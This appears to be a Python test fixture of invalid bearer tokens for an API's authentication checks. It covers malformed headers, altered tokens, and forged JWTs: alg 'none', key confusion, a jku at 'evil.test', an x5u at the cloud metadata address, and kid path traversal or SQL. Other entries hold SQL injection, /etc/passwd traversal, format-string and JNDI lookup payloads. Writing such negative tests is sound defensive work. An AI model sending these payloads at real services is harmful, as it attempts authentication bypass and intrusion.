"""Credentials that are none. `{good}` stands for a token that is good, `{id}` for the id of its session."""

import hmac
import json
from base64 import urlsafe_b64encode
from hashlib import sha256
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


class Token(NamedTuple):
    """`header` is the whole value of `Authorization`."""

    name: str
    header: bytes


def _b64(data: bytes) -> str:
    return urlsafe_b64encode(data).decode().rstrip("=")


CLAIMS = {
    "iss": "http://localhost:8000", "sub": "01900000-0000-7000-8000-000000000000", "aud": "casewire",
    "exp": 4_000_000_000, "iat": 1_700_000_000, "scope": "read write admin",
}  # fmt: skip
_KEY = ec.generate_private_key(ec.SECP256R1())
_PUBLIC = _KEY.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
_NUMBERS = _KEY.public_key().public_numbers()
_JWK = {
    "kty": "EC", "crv": "P-256", "x": _b64(_NUMBERS.x.to_bytes(32, "big")), "y": _b64(_NUMBERS.y.to_bytes(32, "big")),
}  # fmt: skip


def jwt(
    header: dict[str, Any], claims: Any = CLAIMS, key: bytes = b"secret", signature: bytes | None = None
) -> bytes:
    """Signed by HMAC with `key` unless a signature is given."""
    head = f"{_b64(json.dumps(header).encode())}.{_b64(json.dumps(claims).encode())}".encode()
    mac = hmac.new(key, head, sha256).digest() if signature is None else signature
    return b"Bearer " + head + b"." + _b64(mac).encode()


HS = {"alg": "HS256", "typ": "at+jwt"}

# The header is not `Bearer <token>`.
MALFORMED = [
    Token("no scheme", b"{good}"),
    Token("basic in place of bearer", b"Basic {good}"),
    Token("basic credentials", b"Basic dXNlcjpwYXNzd29yZA=="),
    Token("digest", b'Digest username="a", realm="b", nonce="c", uri="/", response="d"'),
    Token("dpop", b"DPoP {good}"),
    Token("token scheme", b"Token {good}"),
    Token("bearer without a token", b"Bearer"),
    Token("bearer and a space", b"Bearer "),
    Token("two spaces", b"Bearer  {good}"),
    Token("a tab for the space", b"Bearer\t{good}"),
    Token("scheme twice", b"Bearer Bearer {good}"),
    Token("scheme with a colon", b"Bearer: {good}"),
    Token("scheme with letters of another script", "B\u0435arer {good}".encode()),
    Token("scheme in capitals of full width", "\uff22earer {good}".encode()),
    Token("two in one header", b"Bearer {good}, Bearer {good}"),
    Token("with a parameter", b'Bearer realm="x", token="{good}"'),
    Token("in quotes", b'"Bearer {good}"'),
    Token("short", b"Bearer abc"),
    Token("nineteen characters", b"Bearer " + b"x" * 19),
    Token("201 characters", b"Bearer " + b"x" * 201),
    Token("8 KiB", b"Bearer " + b"x" * 8192),
    Token("64 KiB", b"Bearer " + b"x" * 65_536),
    Token("only spaces", b"Bearer                             "),
]
# The header is one, the token is nobody's.
UNKNOWN = [
    Token("made up", b"Bearer " + b"x" * 43),
    Token("zeros", b"Bearer " + b"0" * 43),
    Token("the last character is missing", b"Bearer {cut}"),
    Token("one character more", b"Bearer {good}x"),
    Token("twice in a row", b"Bearer {good}{good}"),
    Token("backwards", b"Bearer {backwards}"),
    Token("other case", b"Bearer {swapped}"),
    Token("in quotes as a value", b'Bearer "{good}"'),
    Token("padded", b"Bearer {good}="),
    Token("with a space behind it inside", b"Bearer {good} x"),
    Token("with NUL behind it", b"Bearer {good}\x00"),
    Token("with NUL in it", b"Bearer {half}\x00{half}"),
    Token("with a line end", b"Bearer {good}%0d%0a"),
    Token("percent-encoded", b"Bearer {percent}"),
    Token("its SHA-256, as the database has it", b"Bearer {hash}"),
    Token("its SHA-256 as bytea", b"Bearer \\x{hash}"),
    Token("the id of the session", b"Bearer {id}"),
    Token("the id of the person", b"Bearer {person}"),
    Token("digits of another script", b"Bearer {good}" + "\u0661\u0662\u0663".encode()),
    Token("letters that look alike", b"Bearer " + "\u0430\u0435\u043e\u0440\u0441".encode() * 6),
    Token("latin-1 that is no UTF-8", b"Bearer {good}\xff\xfe"),
    Token("joined by a zero width space", "Bearer {good}\u200b".encode()),
    Token("right to left", "Bearer \u202e{good}".encode()),
    Token("base64 of it", b"Bearer {base64}"),
    Token("hex of it", b"Bearer {hex}"),
    Token("another maker's prefix", b"Bearer ghp_{good}"),
    Token("a prefix of ours that is none", b"Bearer cw_{good}"),
    Token("of an ended session", b"Bearer {ended}"),
    Token("of a session that is over", b"Bearer {over}"),
    Token("of an invitation", b"Bearer {invitation}"),
    Token("SQL", b"Bearer ' or token_hash is not null --                "),
    Token("a wildcard", b"Bearer %%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%"),
    Token("JSON", b'Bearer {"token":"{good}"}'),
    Token("null", b"Bearer null_null_null_null_null_null_null"),
    Token("a path", b"Bearer ../../../../../../../../etc/passwd"),
    Token("a format string", b"Bearer %s%s%s%s%s%s%s%s%n%n%n%n%n%n"),
    Token("a template", b"Bearer ${jndi:ldap://x.test/a}{{7*7}}"),
]
# A token here is opaque; whoever takes a JWT for one would fall for these.
SIGNED = [
    Token("JWT without a signature", jwt({"alg": "none"}, signature=b"")),
    Token("JWT alg nOnE", jwt({"alg": "nOnE"}, signature=b"")),
    Token("JWT alg empty", jwt({"alg": ""}, signature=b"")),
    Token("JWT alg null", jwt({"alg": None}, signature=b"")),
    Token("JWT alg a list", jwt({"alg": ["none"]}, signature=b"")),
    Token("JWT without alg", jwt({"typ": "JWT"})),
    Token("JWT HS256 under a guessable key", jwt(HS)),
    Token("JWT HS256 under an empty key", jwt(HS, key=b"")),
    Token("JWT HS256 under the development secret", jwt(HS, key=b"development-only-secret")),
    Token("JWT HS256 under a public key", jwt(HS, key=_PUBLIC)),
    Token("JWT with its own key", jwt({"alg": "ES256", "jwk": _JWK}, signature=b"x" * 64)),
    Token(
        "JWT with a key elsewhere",
        jwt({"alg": "ES256", "jku": "https://evil.test/jwks"}, signature=b"x" * 64),
    ),
    Token("JWT with a certificate", jwt({"alg": "RS256", "x5c": ["MIIB"]}, signature=b"x" * 64)),
    Token(
        "JWT with a certificate elsewhere",
        jwt({"alg": "RS256", "x5u": "http://169.254.169.254/"}, signature=b"x"),
    ),
    Token("JWT with kid a path", jwt(HS | {"kid": "../../dev/null"}, key=b"")),
    Token("JWT with kid SQL", jwt(HS | {"kid": "' union select 'secret"})),
    Token("JWT with crit that is not understood", jwt(HS | {"crit": ["exp2"], "exp2": 1})),
    Token("JWT with crit b64", jwt(HS | {"crit": ["b64"], "b64": False})),
    Token("JWT of zeros for ECDSA", jwt({"alg": "ES256"}, signature=bytes(64))),
    Token("JWT over", jwt(HS, CLAIMS | {"exp": 1})),
    Token("JWT not yet", jwt(HS, CLAIMS | {"nbf": 4_000_000_000})),
    Token("JWT of another issuer", jwt(HS, CLAIMS | {"iss": "https://evil.test"})),
    Token("JWT for another audience", jwt(HS, CLAIMS | {"aud": "elsewhere"})),
    Token("JWT of typ id", jwt({"alg": "HS256", "typ": "JWT"})),
    Token("JWT without claims", jwt(HS, {})),
    Token("JWT with claims that are a list", jwt(HS, [])),
    Token("JWT of two parts", jwt(HS).rpartition(b".")[0]),
    Token("JWT of four parts", jwt(HS) + b".x"),
    Token("JWE of five parts", b"Bearer eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAA.BBBB.CCCC"),
    Token("JWT zipped", jwt(HS | {"zip": "DEF"})),
]
TOKENS = [*MALFORMED, *UNKNOWN, *SIGNED]
